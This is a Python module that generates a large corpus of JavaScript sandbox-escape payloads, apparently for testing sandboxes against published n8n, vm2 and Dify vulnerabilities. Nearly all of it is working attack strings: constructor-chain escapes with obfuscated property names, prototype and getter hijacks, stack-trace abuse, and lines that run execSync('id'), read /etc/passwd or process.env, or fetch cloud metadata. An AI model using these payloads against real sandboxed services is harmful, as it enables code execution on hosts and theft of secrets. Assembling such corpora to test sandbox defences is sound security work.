"""Ways out of JavaScript sandboxes, written from what was published of n8n, vm2 and Dify's sandbox.

Each is an expression, or the body of an async function that returns what it got hold of: a global
object, a function that makes functions, a module, or what was read with one of these. The test
looks whether any of that reaches beyond the language.
"""

# ruff: noqa: E501 - an attack a line

from __future__ import annotations

from collections.abc import Iterator

# ---- function makers: everything callable has a constructor that compiles text

_CALLABLES = (
    "(() => {})",
    "(function () {})",
    "(async () => {})",
    "(function* () {})",
    "(async function* () {})",
    "(class {})",
    "[].at",
    "''.sub",
    "/x/.exec",
    "(1).toFixed",
    "Symbol",
    "Object",
    "JSON.parse",
    "Math.max",
    "Reflect.get",
    "Promise.resolve",
    "Promise.prototype.then",
    "Date.now",
    "Proxy",
    "Error.captureStackTrace",
    "Intl.DateTimeFormat",
    "Array.prototype[Symbol.iterator]",
    "(new Map).set",
    "(function () {}).bind(null)",
    "new Proxy(function () {}, {})",
    "Object.getOwnPropertyDescriptor({ get a() { return 1 } }, 'a').get",
    "Object.getOwnPropertyDescriptor(Map.prototype, 'size').get",
    "console.log",
    "console.error",
    "crypto.md5",
    "crypto.hmacSha256",
    "datetime.now",
    "btoa",
    "setTimeout",
    "randomInt",
)
_SINKS = (
    "return this",
    "return globalThis",
    "return process",
    "return require('child_process').execSync('id').toString()",
    "return import('fs')",
    "return process.mainModule.require('child_process')",
    "return process.binding('fs')",
    "return constructor.constructor('return process')()",
)

# ---- n8n (CVE-2025-68613 and its bypasses, CVE-2026-1470, CVE-2026-25049): filters of names
N8N = (
    "({}).constructor.constructor('return process')()",
    "(() => {})['constr' + 'uctor']('return process')()",
    "(() => {})[`constr${''}uctor`]('return process')()",
    "(() => {})[`constructor`]`return process```",
    "(() => {}).constructor`return process```",
    "(() => {})['\\x63onstructor']('return process')()",
    "(() => {})['\\u0063onstructor']('return process')()",
    "(() => {})[['constructor']]('return process')()",
    "(() => {})[{ toString: () => 'constructor' }]('return process')()",
    "(() => {})[String.fromCharCode(99) + 'onstructor']('return process')()",
    "(() => {})[atob('Y29uc3RydWN0b3I=')]('return process')()",
    "(({ constructor: { constructor: make } }) => make('return process')())({})",
    "(({ constructor: C }) => C.constructor('return this')())('')",
    "(function () { return this })()",
    "(function () { return this.process.mainModule.require('child_process').execSync('id') })()",
    "(function () { return arguments.callee.caller })()",
    "(function f() { return f.caller && f.caller.arguments })()",
    "Reflect.get(() => {}, 'constructor')('return process')()",
    "Reflect.construct(Reflect.getPrototypeOf(() => {}).constructor, ['return process'])()",
    "Object.getPrototypeOf(() => {}).constructor('return process')()",
    (
        "Object.getOwnPropertyDescriptor(Object.getPrototypeOf(() => {}), 'constructor')"
        ".value('return process')()"
    ),
    (
        "Object.entries(Object.getOwnPropertyDescriptors(Function.prototype))"
        ".find(([n]) => n === 'constructor')[1].value('return process')()"
    ),
    "[].map.constructor.prototype.constructor('return this')()",
    "['return process'].map((() => {}).constructor)[0]()",
    "['return this'].reduce((a, b) => b, 0).replace(/.*/, (() => {}).constructor)",
    "'return process'.replace(/.+/, t => (() => {}).constructor(t)())",
    "eval('pro' + 'cess')",
    "(0, eval)('this')",
    "globalThis['ev' + 'al']('process')",
    "new Function('return process')()",
    "Function.prototype.constructor.call(null, 'return process')()",
    "Function.prototype.call.constructor.apply(null, ['return this'])()",
    "setTimeout('globalThis.found = process', 0)",
    "return new Promise(done => setTimeout(done.constructor('return process'), 0))",
    "extend = Object.assign({}, { __proto__: Function }); return extend.constructor",
    "$jmespath = this; return $jmespath",
    "return typeof $node + typeof $execution + typeof $env + typeof $",
)
# `with` is for sloppy code, which every script here is
WITH = (
    "with (() => {}) { return constructor('return process')() }",
    "with (Function) { return call(null, 'return this')() }",
    "with ({ get process() { return (() => {}).constructor('return process')() } }) return process",
    "with (new Proxy({}, { has: () => true, get: (t, k) => k })) { return process }",
    "with (Reflect) { return construct((() => {}).constructor, ['return this'])() }",
)
# ---- getters, proxies, species, iterators: code that runs where the host does not expect it
INDIRECT = (
    "return { get a() { return process } }",
    "return { toJSON() { return process } }",
    "return { toJSON: (() => {}).constructor('return process') }",
    "return { get then() { return (() => {}).constructor('return process')() } }",
    "return { then: (() => {}).constructor('done', 'done(process)') }",
    "return new Proxy({}, { ownKeys: () => ['a'], get: () => process })",
    "return new Proxy({}, { getPrototypeOf: () => Function.prototype, get: (t, k, r) => r[k] })",
    "return new Proxy([], { get: (t, k) => k === 'length' ? 1 : (() => {}).constructor })",
    (
        "class A extends Array { static get [Symbol.species]() { return Function } }"
        " return new A('return process', 'return this').map(x => x)"
    ),
    "const a = [1]; a.constructor = { [Symbol.species]: (() => {}).constructor }; return a.map(x => x)",
    (
        "class P extends Promise { static get [Symbol.species]() { return class { constructor(f) {"
        " f(x => globalThis.got = x, y => globalThis.got = y) } } } }"
        " await new P(r => r(1)).then(() => 1); return globalThis.got"
    ),
    (
        "class P extends Promise { then(a, b) { return a.constructor('return process')() } }"
        " return new P(() => 0)"
    ),
    "return { [Symbol.toPrimitive]: h => (() => {}).constructor('return process')() }",
    "return { valueOf: (() => {}).constructor('return this') }",
    "return { [Symbol.iterator]: function* () { yield process } }",
    "return [...{ [Symbol.iterator]: (function* () { yield this }).bind(undefined) }]",
    (
        "Object.defineProperty(Object.prototype, 'toJSON', { configurable: true, get() {"
        " return this.constructor.constructor } });"
        " return {}"
    ),
    "Object.prototype.toJSON = function () { return arguments.callee.caller }; return {}",
    (
        "Array.prototype.toJSON = function () { return (() => {}).constructor('return process')() };"
        " return []"
    ),
    "Object.prototype.get = function () { return process }; return Object.create({}, { a: {} })",
    (
        "Object.defineProperty(Object.prototype, 'value', { set(v) { globalThis.got = v } });"
        " return globalThis.got"
    ),
    (
        "Promise.prototype.then = function (a, b) { globalThis.got = [a, b]; return this };"
        " await 1; return globalThis.got.map(f => f.constructor('return process')())"
    ),
    (
        "Function.prototype.call = function (...a) { globalThis.got = this; };"
        " Function.prototype.apply = function () { globalThis.got = this };"
        " console.log('x'); return globalThis.got"
    ),
    "Function.prototype.bind = function () { return () => this }; return console.log.bind(1)()",
    (
        "JSON.stringify = function (v) { return arguments.callee.caller.constructor('return process')() };"
        " return 1"
    ),
    "JSON.parse = () => process; return JSON.parse('1')",
    (
        "Array.prototype.push = function (v) { globalThis.got = v; return 1 }; console.log({}, []);"
        " return globalThis.got"
    ),
    "Map.prototype.get = function () { return process }; return new Map().get(1)",
    "String.prototype.replace = () => process; return 'x'.replace('x', 'y')",
    "Symbol.prototype.toString = () => process; return String(Symbol('x'))",
    (
        "Object.setPrototypeOf(globalThis, new Proxy({}, { get: (t, k) => 'got ' + String(k) }));"
        " return typeof process"
    ),
)
# ---- errors: vm2 (CVE-2023-29017, -29199, -30547, -32314) fell by those that the host makes
ERRORS = (
    (
        "Error.prepareStackTrace = (e, frames) => frames.map(f => f.getThis && f.getThis());"
        " return new Error('x').stack"
    ),
    (
        "Error.prepareStackTrace = (e, frames) => frames.map(f => f.getFunction && f.getFunction());"
        " return new Error('x').stack"
    ),
    (
        "Error.prepareStackTrace = (e, frames) => frames.map(f => String(f.getFileName()));"
        " return new Error('x').stack"
    ),
    (
        "Error.prepareStackTrace = (e, frames) => frames.map(f => f.constructor.constructor("
        "'return process')()); return new Error('x').stack"
    ),
    (
        "Error.prepareStackTrace = (e, frames) => frames.map(f => f.getEvalOrigin && f.getEvalOrigin());"
        " return new Error('x').stack"
    ),
    (
        "Error.prepareStackTrace = (e, s) => { e.got = s; return s };"
        " try { null.x } catch (e) { return e.stack }"
    ),
    (
        "const e = new Error; e.name = Symbol(); const f = async () => e.stack;"
        " try { await f() } catch (x) { return x.constructor.constructor('return process')() }"
    ),
    (
        "const deep = () => deep(); try { deep() } catch (e) {"
        " return e.constructor.constructor('return process')() }"
    ),
    (
        "const s = 'x'.repeat(1e6); try { s.repeat(1e9) } catch (e) {"
        " return e.constructor.constructor('return process')() }"
    ),
    "try { new ArrayBuffer(2 ** 53) } catch (e) { return e.constructor.constructor('return this')() }",
    (
        "try { crypto.md5({ toString() { throw process } }) } catch (e) {"
        " return e.constructor.constructor('return process')() }"
    ),
    (
        "try { crypto.hmacSha256(null, null) } catch (e) {"
        " return e.constructor.constructor('return process')() }"
    ),
    "try { console.log({ toString() { throw 1 } }) } catch (e) { return e }",
    "try { datetime.format({}, {}) } catch (e) { return e.constructor.constructor('return this')() }",
    "try { eval('(') } catch (e) { return e.constructor.constructor('return process')() }",
    "try { JSON.parse('{') } catch (e) { return e.constructor.constructor('return process')() }",
    "return Promise.reject({ get stack() { return process } })",
    "throw { get message() { return process } }",
    "throw { toString: (() => {}).constructor('return process') }",
    "throw new Proxy({}, { get: (t, k) => (() => {}).constructor('return process')() })",
    "throw Object.assign(new Error('x'), { stack: { toString: () => process } })",
    "await import('fs').catch(e => e.constructor.constructor('return process')())",
    "try { await import('fs') } catch (e) { return e.constructor.constructor('return process')() }",
    "Error.captureStackTrace(globalThis); return globalThis.stack",
    "return new AggregateError([{ get message() { return process } }], 'x')",
    "return structuredClone(() => {})",
)
# ---- what a host may have left within reach
HOST = (
    "return import('fs')",
    "return import('node:child_process')",
    "return import('data:text/javascript,export default globalThis')",
    "return eval('import(\"fs\")')",
    "return new Function('return import(\"os\")')()",
    "return import.meta",
    "return require('fs').readFileSync('/etc/passwd', 'utf8')",
    "return require('child_process').execSync('id').toString()",
    "return module.constructor._load('fs')",
    "return process.env",
    "return process.binding('spawn_sync').spawn({ file: '/bin/id', args: ['id'] })",
    "return process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6')",
    "return Deno.readTextFileSync('/etc/passwd')",
    "return Bun.file('/etc/passwd').text()",
    "return fetch('http://169.254.169.254/latest/meta-data/')",
    "return new XMLHttpRequest()",
    "return new WebSocket('ws://127.0.0.1')",
    "return new Worker('data:text/javascript,postMessage(1)')",
    "return importScripts('http://127.0.0.1/x.js')",
    "return read('/etc/passwd')",
    "return load('/etc/passwd')",
    "return d8.file.read('/etc/passwd')",
    "return os.system('id')",
    "return quit()",
    "return Realm.eval(Realm.create(), 'process')",
    "return new ShadowRealm().evaluate('globalThis')",
    "return performance.nodeTiming",
    "return Symbol.for('nodejs.util.inspect.custom') in console",
    "return console[Object.getOwnPropertySymbols(console)[0]]",
    "return console._stdout",
    "return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
    "return await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
    "return new SharedArrayBuffer(8)",
    "return Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0, 9e9)",
    "return new WebAssembly.Memory({ initial: 1, maximum: 2, shared: true }).buffer",
    "return %DebugPrint(1)",
    "return eval('%GetOptimizationStatus(eval)')",
    "debugger; return typeof inspector",
    "return document.cookie",
    "return window.location",
    "return _mini_racer",
    "return __xworkflow_run",
    "return Object.getOwnPropertyNames(globalThis).filter(n => /xworkflow|racer|host|send|post/i.test(n))",
    "return new FinalizationRegistry(x => { globalThis.got = x }).constructor.constructor('return process')()",
    "return new WeakRef({}).deref.constructor('return process')()",
    "return Intl.Segmenter.constructor('return process')()",
    "return Temporal.Now.constructor.constructor('return process')()",
)
# ---- Dify's sandbox (CVE-2025-3466): whole scripts that declare again what the wrapper uses
REDECLARED = (
    "function JSON() { return process } JSON.stringify = () => process; JSON.parse = () => process;",
    'var JSON = { stringify: v => \'{"got":"canary"}\', parse: v => process };',
    "function String() { return process } function Object() { return process }",
    "var globalThis = { process: 'got' };",
    "var console = { log: v => process };",
    "function Promise() { return process }",
    "var undefined = 1; var NaN = 2;",
    "function btoa() { return process } function atob() { return process }",
    "function __xworkflow_run() { return 'canary' } var __xworkflow_run = () => process;",
    "globalThis.__xworkflow_run = () => process;",
    "Object.defineProperty(globalThis, 'main', { get() { return () => process } });",
    "var main = new Proxy(function () {}, { apply: (t, self, given) => process });",
    "class main { constructor() { return process } }",
    "async function* main() { yield process }",
    "var inputs = process; var args = process;",
    "function require(name) { return process } function setTimeout(f) { return f(process) }",
    "}); process; ({",
    "*/ process /*",
    "`}${process}{`",
    "</script><script>process</script>",
    "\u2028process\u2028",
    "//# sourceMappingURL=file:///etc/passwd\nprocess",
    "label: { break label; } return process;",
    "import fs from 'fs'; export default fs;",
    "import * as os from 'os';",
    "'use strict'; delete globalThis.process; process;",
)


def expressions() -> Iterator[str]:
    """Bodies of an async function, each of which returns, or throws, what it got."""
    for callable_ in _CALLABLES:
        for sink in _SINKS:
            yield f"return {callable_}.constructor({sink!r})()"
    for text in N8N:
        yield text if text.startswith("return ") or "; return" in text else f"return {text}"
    yield from (*WITH, *INDIRECT, *ERRORS, *HOST)
